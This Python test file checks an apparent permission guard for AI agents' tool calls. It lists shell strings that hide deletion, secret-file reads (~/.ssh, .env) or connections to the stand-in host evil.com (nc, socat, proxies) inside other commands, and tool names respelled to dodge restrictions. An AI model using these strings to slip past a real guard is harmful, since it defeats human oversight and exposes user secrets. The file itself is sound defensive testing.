"""What attackers tried, each in a few lines, and what holds. The parts have their own tests next to these."""

import asyncio
import io
import json
import os
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from permitry.audit.record import JsonlRecorder
from permitry.channels.channel import CallbackChannel
from permitry.channels.request import ToolConfirmationRequest
from permitry.cli.main import main
from permitry.cli.prompt import TerminalChannel
from permitry.conditions.mode import ModeCondition
from permitry.conditions.scope import Conditions, Scope
from permitry.conditions.tools import ToolSelector
from permitry.config.default import create_default_authorization_policy
from permitry.config.load import Origin, load_policy, load_rules
from permitry.core.call import ToolCall
from permitry.core.context import AuthContext
from permitry.core.decision import Verdict
from permitry.core.explanation import Explanation
from permitry.core.policy import AuthorizationPolicy
from permitry.core.result import ToolResult
from permitry.core.rule import AuthorizationRule
from permitry.core.spec import ArgumentRole, ToolSpec
from permitry.dispatch.registry import ToolRegistry
from permitry.errors import AuditError, ConfigError, RuleError, ToolError
from permitry.guard.session import Session
from permitry.handler import ToolHandler
from permitry.messages import calls_in
from permitry.rules.configured import ConfiguredRule
from permitry.rules.plan_mode import PlanModeBlockingRule
from permitry.rules.yolo import YoloModeRule
from permitry_tools.workspace import Workspace
from tests.tables import for_each


class Wrapper:
    """Forwards everything to a rule, as a logging wrapper would."""

    def __init__(self, rule: AuthorizationRule) -> None:
        self._rule = rule

    def __getattr__(self, name: str) -> Any:  # noqa: ANN401 -- whatever the rule has
        return getattr(self._rule, name)


def test_a_wrapped_restriction_stays_a_restriction() -> None:
    """A wrapper must not turn a block into a permission that never matches."""
    wrapped: Any = Wrapper(PlanModeBlockingRule())
    policy = AuthorizationPolicy([wrapped, YoloModeRule()])
    context = AuthContext(is_plan_mode=True, yolo_mode=True)
    assert policy.decide(ToolCall("write_file"), context).verdict is Verdict.BLOCK


@for_each("fields", [{"mode": "ci"}, {"is_plan_mode": True}, {}])
def test_no_mode_hides_another_from_a_restriction(fields: dict[str, Any]) -> None:
    """A block for YOLO mode holds whenever YOLO mode is on, whatever the session is called."""
    rule = ConfiguredRule("calm", Verdict.BLOCK, 150, scope=Scope(when=Conditions((ModeCondition(("yolo",)),))))
    policy = create_default_authorization_policy([rule])
    assert policy.decide(ToolCall("read_file"), AuthContext(yolo_mode=True, **fields)).verdict is Verdict.BLOCK


def test_a_permission_looks_at_the_mode_in_force() -> None:
    """A permission for YOLO mode does not outlive the entry into plan mode."""
    rule = ConfiguredRule("fast", Verdict.ALLOW, 250, scope=Scope(when=Conditions((ModeCondition(("yolo",)),))))
    policy = AuthorizationPolicy([rule])
    assert policy.decide(ToolCall("x"), AuthContext(yolo_mode=True, is_plan_mode=True)).verdict is Verdict.CONFIRM


@for_each("path", [".git/config", "sub/.GIT/hooks/post-checkout", ".permitry/rules.toml"])
def test_the_file_tools_do_not_write_what_runs_or_rules(tmp_path: Path, path: str) -> None:
    """An edit of git's configuration would be a command for the next human who types `git status`."""
    with pytest.raises(ToolError, match="belongs to git or to permitry"):
        Workspace(tmp_path).write(path, b"x")


@pytest.fixture
def deep_tree(tmp_path: Path) -> Iterator[Path]:
    """Return a folder of 1,100 folders in one another, taken down afterwards: pytest could not."""
    here = os.open(tmp_path, os.O_RDONLY)
    for _ in range(1_100):
        os.mkdir("d", dir_fd=here)
        deeper = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper
    os.close(here)
    yield tmp_path
    subprocess.run(["rm", "-r", "d"], cwd=tmp_path, check=True)


def test_a_deep_tree_is_listed(deep_tree: Path) -> None:
    """A tree deeper than Python's stack ends the listing of its depths, not the tool."""
    (deep_tree / "top.txt").touch()
    assert list(Workspace(deep_tree).files()) == ["top.txt"]


@for_each("target", ["../secret.toml", "link.toml"])
def test_an_untrusted_project_reads_nothing_outside(tmp_path: Path, target: str) -> None:
    """An error message would show what is there."""
    (tmp_path / "secret.toml").write_text("password = hunter2\n", encoding="utf-8")
    project = tmp_path / "project"
    project.mkdir()
    (project / "link.toml").symlink_to(tmp_path / "secret.toml")
    (project / "rules.toml").write_text(f'schema = 1\nextends = ["{target}"]\n', encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_rules([Origin(str(project / "rules.toml"), is_trusted=False, root=project)])
    assert "outside the project" in str(caught.value)
    assert "hunter2" not in str(caught.value)


def test_an_untrusted_file_is_not_read_without_end(tmp_path: Path) -> None:
    """A file of gigabytes would be read before anything could be said about it."""
    rules = tmp_path / "rules.toml"
    with rules.open("wb") as stream:
        stream.truncate(2**33)
    with pytest.raises(ConfigError, match="larger than"):
        load_rules([Origin(str(rules), is_trusted=False, root=tmp_path)])


def test_a_record_that_was_replaced_is_no_record(tmp_path: Path) -> None:
    """Writing on into a file no one can find any more would look like recording."""
    path = tmp_path / "audit.jsonl"
    recorder = JsonlRecorder(str(path))
    path.rename(tmp_path / "away")
    path.write_text("nothing to see\n", encoding="utf-8")
    with pytest.raises(AuditError, match="was replaced"):
        recorder.record("decided", ToolCall("x"))
    recorder.close()


def test_an_id_that_is_no_id_is_not_given_back() -> None:
    """A list nested deep enough could be read and not be written."""
    deep: Any = []
    for _ in range(900):
        deep = [deep]
    for message in (
        {"name": "a", "arguments": {}, "id": deep},
        {"type": "tool_use", "name": "a", "input": {}, "id": deep},
    ):
        (incoming,) = calls_in(message)
        assert json.dumps(incoming.reply(ToolResult(False, "no")))


def test_one_question_is_on_the_screen_at_a_time() -> None:
    """An answer belongs to the question that was shown last."""
    shown: list[str] = []

    def explained(call: ToolCall) -> Explanation:
        return AuthorizationPolicy().explain(call, AuthContext())

    channel = TerminalChannel(io.StringIO("n\n\nn\n\n"), explained, str)
    inner = threading.Lock()

    def ask(tool: str) -> None:
        request = ToolConfirmationRequest(ToolCall(tool))
        with inner:
            shown.append(tool)
        channel.ask(request)

    channel._lock.acquire()  # noqa: SLF001 -- as if a question were being asked
    threads = [threading.Thread(target=ask, args=(name,)) for name in "ab"]
    for thread in threads:
        thread.start()
    time.sleep(0.05)
    assert channel.terminal.tell() == 0
    channel._lock.release()  # noqa: SLF001 -- it has been answered
    for thread in threads:
        thread.join()
    assert sorted(shown) == ["a", "b"]


def test_questions_hold_up_no_other_call() -> None:
    """A human who thinks must not stop the calls that need none."""
    gate = threading.Event()
    registry = ToolRegistry()
    registry.register(ToolSpec("read_file"), lambda _: (True, "read"))
    registry.register(ToolSpec("write_file"), lambda _: (True, "wrote"))

    def think(_: ToolConfirmationRequest) -> None:
        gate.wait(30)

    handler = ToolHandler(registry=registry, channel=CallbackChannel(think))
    handler.session.tool_ignore_list.append("read_file")

    async def session() -> bool:
        asked = [asyncio.create_task(handler.ahandle(ToolCall("write_file", {"n": n}))) for n in range(40)]
        await asyncio.sleep(0.05)
        result = await asyncio.wait_for(handler.ahandle(ToolCall("read_file")), 20)
        gate.set()
        await asyncio.gather(*asked)
        return result.ok

    assert asyncio.run(session())


def test_a_tool_that_stops_an_iteration_does_not_hang() -> None:
    """A future cannot carry StopIteration; the one who waits would wait for ever."""
    registry = ToolRegistry()
    registry.register(ToolSpec("list_files"), lambda _: (True, next(iter([]))))
    handler = ToolHandler(registry=registry)
    handler.session.tool_ignore_list.append("list_files")
    result = asyncio.run(asyncio.wait_for(handler.ahandle(ToolCall("list_files")), 20))
    assert "crashed" in result.text


def test_no_call_is_no_permission(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """The one who was to write the calls may have died; `check && go` must not go."""
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\n"), encoding="utf-8"))
    assert main(["check", "--rules", "permitry:base", "--calls", "-"]) == 4
    assert "there is no call" in capsys.readouterr().err


UNSEEN_COMMANDS = (
    "git -c alias.p=push p", "git submodule --quiet foreach 'git push'", "tmux new 'rm x'", "screen -dm rm x",
    "vim -c ':!rm x' f", "vim +':!rm x' f", "sed '1e rm x' f", "sed 's/a/rm x/e' f", "hash -p /bin/rm foo; foo x",
    "mapfile -C 'rm x' -c 1 a", "readarray -C 'rm x' a", "complete -C 'rm x' a", "compgen -C 'rm x'",
    "bind -x '\"a\":rm x'", "fish -C 'rm x'", "pwsh -Command 'rm x'", "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "gosu root rm x", "su-exec a rm x", "setuidgid a rm x", "dumb-init rm x", "tini -- rm x", "chronic rm x",
    "bunx rm x",
    "sg g 'rm x'", "pee 'rm x'", "gdb -ex 'shell rm x'", "gdb -ex '!rm x'", "fzf --preview 'rm x'", "adb shell rm x",
    "concurrently 'rm x'", "nodemon --exec 'rm x'", "hyperfine 'rm x'",
    "su <<< 'rm x'", "sudo -s <<< 'rm x'", "sudo -i <<< 'rm x'", "doas -s <<< 'rm x'", ". /dev/stdin <<< 'rm x'",
    "source /dev/fd/0 <<< 'rm x'", "script f <<< 'rm x'", "chroot d <<< 'rm x'", "env su <<< 'rm x'",
    "bash -o posix <<< 'rm x'", "bash --rcfile a <<< 'rm x'",
)  # fmt: skip
UNSEEN_PATHS = (
    "docker run -v ~/.ssh:/x a", "sed -n 'r .env' x", "sed 'w .env' x", "sed 's/a/b/w .env' x", "vim -c 'e .env'",
    "awk 'BEGIN{while((getline l < \".env\")>0) print l}'",
    "git diff --no-index --binary a ~", "git diff -a -- a ~/.ssh", "git grep --no-index -a x ~",
    "unzip -qo a.zip -d ~", "patch -d ~ -i x",
    "bsdtar -C ~ -xf x", "7z x -o~ x",
)  # fmt: skip
UNSEEN_HOSTS = (
    "curl 'http://{good,evil}.com'", "wget 'http://{good,evil}.com'", "curl 'http://evi[a-z].com'",
    "git fetch evil.com:x",
    "git clone evil.com:x y", "ssh -o ProxyJump=evil.com good", "ssh -J evil.com good", "mysql -hevil.com",
    "export http_proxy=http://evil.com; wget good.com", "openssl s_client -connect evil.com:443", "psql -h evil.com",
    "git -c http.proxy=evil.com fetch", "git config http.proxy evil.com", "nc evil.com 80", "socat - tcp:evil.com:80",
    "wget -e http_proxy=evil.com:80 good.com",
)  # fmt: skip


SUPPOSED = frozenset([
    "tmux new 'rm x'", "vim -c ':!rm x' f", "sed 's/a/rm x/e' f", "sg g 'rm x'",
    "gdb -ex 'shell rm x'", "adb shell rm x", "chroot d <<< 'rm x'", "docker run -v ~/.ssh:/x a",
    "awk 'BEGIN{while((getline l < \".env\")>0) print l}'",
    "git diff --no-index --binary a ~", "git grep --no-index -a x ~", "unzip -qo a.zip -d ~",
    "patch -d ~ -i x", "bsdtar -C ~ -xf x", "7z x -o~ x",
])  # fmt: skip
"""What is found by a guess: in a script of another language, in a part of a word, or below a folder."""


@for_each("text", [*UNSEEN_COMMANDS, *UNSEEN_PATHS, *UNSEEN_HOSTS])
def test_restrictions_see_what_is_hidden_in_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    """Whatever a program runs, touches or calls besides what is in front; a guess only asks."""
    # What goes through a folder reads what is there.
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    call = ToolCall("run_shell", {"command": text})
    verdict = _guarded(tmp_path).decide(call, AuthContext(yolo_mode=True)).verdict
    assert verdict is (Verdict.CONFIRM if text in SUPPOSED else Verdict.BLOCK)


@for_each("text", ["git commit -m 'update .env handling'", "git commit -m 'rm x'", "sed -i s/a/b/ f"])
def test_restrictions_do_not_see_what_is_not_there(tmp_path: Path, text: str) -> None:
    """A message is neither a path nor a command."""
    verdict = _guarded(tmp_path).decide(ToolCall("run_shell", {"command": text}), AuthContext(yolo_mode=True)).verdict
    assert verdict is Verdict.ALLOW


def _guarded(folder: Path) -> AuthorizationPolicy:
    """Return a policy with a few restrictions on commands, hosts and paths."""
    rules = folder / "rules.toml"
    rules.write_text(
        'schema = 1\n[[rule]]\nid = "c"\neffect = "block"\nwhen.command = ["rm *", "git push *"]\n'
        '[[rule]]\nid = "h"\neffect = "block"\nwhen.host = ["evil.com"]\n'
        '[[rule]]\nid = "p"\neffect = "block"\nwhen.path = ["~/.ssh/**", "/**/.env"]\n',
        encoding="utf-8",
    )
    return load_policy(str(rules))


def _rule(effect: str, *lines: str, rule_id: str = "r") -> str:
    return "\n".join(["[[rule]]", f'id = "{rule_id}"', f'effect = "{effect}"', *lines, ""])


def _policy(folder: Path, *rules: str) -> AuthorizationPolicy:
    (folder / "own.toml").write_text("schema = 1\n" + "".join(rules), encoding="utf-8")
    return load_policy(str(folder / "own.toml"))


def _verdict(policy: AuthorizationPolicy, folder: Path, text: str) -> Verdict:
    return policy.decide(ToolCall("run_shell", {"command": text}), AuthContext(workspace=str(folder))).verdict


@for_each("text", ["$CC -c x", '"$PYTHON" -m pytest', "$X", "sudo $CC x"])
def test_a_program_that_is_not_known_is_not_blocked_for_certain(tmp_path: Path, text: str) -> None:
    """It may be the one that is blocked, and most often is not: someone is asked."""
    decision = _policy(tmp_path, _rule("block", 'when.command = ["rm *"]')).decide(
        ToolCall("run_shell", {"command": text}), AuthContext(yolo_mode=True)
    )
    assert (decision.verdict, decision.rule_id) == (Verdict.CONFIRM, "r")
    assert decision.reason.startswith("may run `rm *` (")


@for_each(
    ("text", "verdict"),
    [
        ("git push $(cat x)", Verdict.BLOCK),
        ("git push $x", Verdict.BLOCK),
        ('git push "$x"', Verdict.BLOCK),
        ("git $x", Verdict.CONFIRM),
        ("$GIT push", Verdict.CONFIRM),
    ],
)
def test_what_is_written_out_is_blocked_whatever_is_behind_it(tmp_path: Path, text: str, verdict: Verdict) -> None:
    """An expansion takes nothing away from words that fit without it."""
    assert _verdict(_policy(tmp_path, _rule("block", 'when.command = ["git push *"]')), tmp_path, text) is verdict


@for_each(
    ("lines", "text", "verdict"),
    [
        (['when.command = ["echo *"]', 'when.path = ["src/**"]'], "echo x > src/a", Verdict.ALLOW),
        (['when.command = ["echo *"]', 'when.path = ["src/**"]'], "echo x > lib/a", Verdict.CONFIRM),
        (['when.command = ["echo *"]', 'when.path = ["src/**"]'], "echo x > src/a > lib/b", Verdict.CONFIRM),
        (['when.command = ["echo *"]', 'when.path = ["src/**"]'], "echo x > src/../a", Verdict.CONFIRM),
        (['when.command = ["echo *"]', 'when.path = ["src/**"]'], "cp a b > src/a", Verdict.CONFIRM),
        (['when.command = ["echo *"]'], "echo x > src/a", Verdict.CONFIRM),
        (['when.command = ["*"]'], "echo x > src/a", Verdict.CONFIRM),
        (['when.command = ["curl *"]', 'unless.host = ["private"]'], "curl https://example.com", Verdict.ALLOW),
        (['when.command = ["curl *"]', 'unless.host = ["private"]'], "curl -K cfg", Verdict.CONFIRM),
        (['when.command = ["curl *"]', 'unless.host = ["private"]'], "curl http://10.0.0.1/x", Verdict.CONFIRM),
        (['when.command = ["make *"]', 'unless.path = ["secret/**"]'], "make x", Verdict.CONFIRM),
        (['when.command = ["mkdir *"]', 'unless.path = ["secret/**"]'], "mkdir src", Verdict.ALLOW),
        (['when.command = ["mkdir *"]', 'unless.path = ["secret/**"]'], "mkdir secret/x", Verdict.CONFIRM),
    ],
)
def test_a_permission_for_a_command_ends_where_its_files_and_hosts_do(
    tmp_path: Path, lines: list[str], text: str, verdict: Verdict
) -> None:
    """A redirection needs a path, and an exception counts where no one knows what is touched."""
    assert _verdict(_policy(tmp_path, _rule("allow", *lines)), tmp_path, text) is verdict


@for_each(
    ("text", "verdict"),
    [
        ("git fetch origin", Verdict.ALLOW),
        ("git fetch origin && git fetch other", Verdict.ALLOW),
        ("cat .env && git fetch origin", Verdict.BLOCK),
        ("git fetch origin; cat .env", Verdict.BLOCK),
        ("git fetch origin < .env", Verdict.BLOCK),
        ("git fetch $(cat .env)", Verdict.BLOCK),
    ],
)
def test_an_override_lifts_no_more_than_it_covers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, verdict: Verdict
) -> None:
    """What only reads is not left aside there: no restriction has looked at it yet."""
    monkeypatch.setattr("permitry.config.named.writable_by_others", lambda _: None)
    override = _rule("allow", 'when.command = ["git fetch *"]', "priority = 50", rule_id="o")
    block = _rule("block", 'when.command = ["cat *", "git *"]', rule_id="c") + _rule("block", 'when.path = [".env"]')
    (tmp_path / "admin.toml").write_text(f"schema = 1\n{override}{block}", encoding="utf-8")
    policy = load_rules([Origin(str(tmp_path / "admin.toml"), is_admin=True)]).policy()
    assert _verdict(policy, tmp_path, text) is verdict


_FILES = "".join(f"*** Add File: src/{i}\n+x\n" for i in range(10_000))
_PILES: dict[str, tuple[Any, ArgumentRole | None]] = {
    "text": ("a/b c " * 170_000, None),
    "brackets": ("(" * 1_000_000, None),
    "urls": ([f"https://a.com/{i}" for i in range(40_000)], None),
    "words": (["echo", *["w"] * 5_000], None),
    "declared words": (["echo", *["w"] * 5_000], ArgumentRole.ARGV),
    "patch": (f"*** Begin Patch\n{_FILES}*** End Patch", ArgumentRole.PATCH),
}


@for_each("name", _PILES)
def test_a_call_too_large_to_look_at_is_asked_about_at_once(tmp_path: Path, name: str) -> None:
    """No permission over actions covers it, and a restriction on paths is not sure."""
    value, role = _PILES[name]
    spec = ToolSpec("pile", roles=None if role is None else {"x": role})
    permits = _rule("allow", 'when.path = ["**"]', rule_id="p") + _rule("allow", 'when.command = ["*"]', rule_id="c")
    restricts = _rule("block", 'when.path = ["secret/**"]')
    for rules, rule_id in (((permits,), None), ((permits, restricts), "r")):
        policy, call = _policy(tmp_path, *rules), ToolCall("pile", {"x": value})
        started = time.process_time()
        decision = policy.decide(call, AuthContext(workspace=str(tmp_path)), spec)
        assert time.process_time() - started < 2
        assert (decision.verdict, decision.rule_id) == (Verdict.CONFIRM, rule_id)


def test_a_sub_agent_sheds_no_labels() -> None:
    """Labels that it is given come on top of those of its parent."""
    parent = AuthContext(labels=("web",))
    assert parent.child("low").labels == {"web"}
    assert parent.child("low", labels=()).labels == {"web"}
    assert parent.child("low", labels=("mail",)).labels == {"web", "mail"}


# Names --------------------------------------------------------------------------------------------------------------

_NAMED = """
schema = 1
extends = ["permitry:base"]

[[rule]]
id = "no-payments"
effect = "block"
tools = ["mcp:bank/*"]

[[rule]]
id = "alarms"
effect = "confirm"
tools = ["set_alarm"]

[[rule]]
id = "no-push"
effect = "block"
when.command = ["git push *"]

[[rule]]
id = "shells"
effect = "confirm"
tools = ["@shell"]

[tool.run_it]
roles.command = "command"
"""


def _in_yolo_mode(rules: str, folder: Path, *calls: ToolCall) -> list[tuple[str | None, Verdict]]:
    path = folder / "rules.toml"
    path.write_text(rules)
    decisions = load_policy(str(path)).decide_many(calls, AuthContext(yolo_mode=True))
    return [(decision.rule_id, decision.verdict) for decision in decisions]


@for_each(
    ("name", "others", "decision"),
    [
        (
            "mcp:bank/pay",
            ("mcp__bank__pay_invoice", "MCP:bank/pay", "bank.pay", "BANK__PAY", "mcp_bank_pay", "functions.bank__pay"),
            ("no-payments", Verdict.BLOCK),
        ),
        (
            "set_alarm",
            ("Set_Alarm", "functions.set_alarm", "set-alarm", "default_api:SET_ALARM", "functions.set_alarm:0"),
            ("alarms", Verdict.CONFIRM),
        ),
        (
            "permitry_trust",
            ("Permitry_trust", "PERMITRY_APPROVE", "mcp__permitry__approve", "mcp:Permitry/trust", "permitry.trust"),
            ("protect-policy-tools", Verdict.BLOCK),
        ),
    ],
)
def test_another_spelling_of_a_name_meets_the_same_restriction(
    name: str, others: tuple[str, ...], decision: tuple[str, Verdict], tmp_path: Path
) -> None:
    """In YOLO mode whatever no restriction knows would run."""
    found = _in_yolo_mode(_NAMED, tmp_path, *map(ToolCall, (name, *others)))
    assert found == [decision] * (1 + len(others))


@for_each("name", ["Bash", "BASH", "functions.bash", "Run_It", "run-it", "functions.exec_command"])
def test_another_spelling_of_a_shell_is_a_shell_to_restrictions(name: str, tmp_path: Path) -> None:
    """What it is by its one name, restrictions take it to be; permissions do not."""
    calls = (ToolCall(name, {"command": "git push"}), ToolCall(name, {"command": "date"}))
    assert _in_yolo_mode(_NAMED, tmp_path, *calls) == [("no-push", Verdict.BLOCK), ("shells", Verdict.CONFIRM)]


def test_what_lifts_a_restriction_is_compared_as_it_is_written(tmp_path: Path) -> None:
    """The server `docs` is excepted, and nothing that may be meant by it."""
    rules = 'schema = 1\n[[rule]]\nid = "s"\neffect = "block"\ntools = ["mcp:*/*"]\nunless.server = "docs"\n'
    calls = (ToolCall("mcp:docs/a"), ToolCall("mcp:Docs/a"), ToolCall("mcp__docs__a"))
    blocked = ("s", Verdict.BLOCK)
    assert _in_yolo_mode(rules, tmp_path, *calls) == [("yolo", Verdict.ALLOW), blocked, blocked]


def test_a_permission_is_for_the_very_name(tmp_path: Path) -> None:
    """No other spelling is let in."""
    rules = 'schema = 1\n[[rule]]\nid = "a"\neffect = "allow"\ntools = ["mcp:docs/*", "look"]\n'
    (tmp_path / "rules.toml").write_text(rules)
    policy = load_policy(str(tmp_path / "rules.toml"))
    names = ("mcp:docs/a", "look", "Look", "mcp__docs__a", "docs.a", "mcp:Docs/a", "functions.look", "docs/a")
    allowed = [name for name in names if policy.decide(ToolCall(name), AuthContext()).verdict is Verdict.ALLOW]
    assert allowed == ["mcp:docs/a", "look"]


# More rules ---------------------------------------------------------------------------------------------------------

_KEPT = """
schema = 1

[[rule]]
id = "three"
effect = "allow"
tools = ["look"]
budget = { calls = 3 }

[[rule]]
id = "web"
tools = ["fetch_url"]
adds_label = "web"

[[rule]]
id = "mail-asks"
effect = "confirm"
tools = ["send_mail"]
when.label = "web"
"""


def test_a_policy_put_together_from_rules_alone_is_refused(tmp_path: Path) -> None:
    """Its budget would never be spent, and its label never set."""
    (tmp_path / "rules.toml").write_text(_KEPT)
    rules = load_policy(str(tmp_path / "rules.toml")).rules
    for lost in ("three", "mail-asks"):
        kept = [rule for rule in rules if getattr(rule, "id", "") not in {"three", "mail-asks"} - {lost}]
        with pytest.raises(RuleError, match=f"rule `{lost}`: no flow keeps"):
            AuthorizationPolicy(kept)


def test_a_budget_is_spent_and_a_label_is_set_next_to_a_rule_of_ones_own(tmp_path: Path) -> None:
    """With `with_rules` three of six calls run, and mail is asked about once the web was read."""
    (tmp_path / "rules.toml").write_text(_KEPT)
    mine = ConfiguredRule("mine", Verdict.BLOCK, 150, Scope((ToolSelector("never"),)))
    policy, session = load_policy(str(tmp_path / "rules.toml")).with_rules(mine), Session(mode="default")
    verdicts = []
    for name in ("look",) * 6 + ("fetch_url", "send_mail"):
        call, context = ToolCall(name), AuthContext.from_state(session)
        verdicts.append(policy.decide(call, context).verdict)
        session.apply(call, policy.side_effects(call, context))
    assert verdicts.count(Verdict.ALLOW) == 3
    assert policy.decide(ToolCall("send_mail"), AuthContext.from_state(session)).rule_id == "mail-asks"
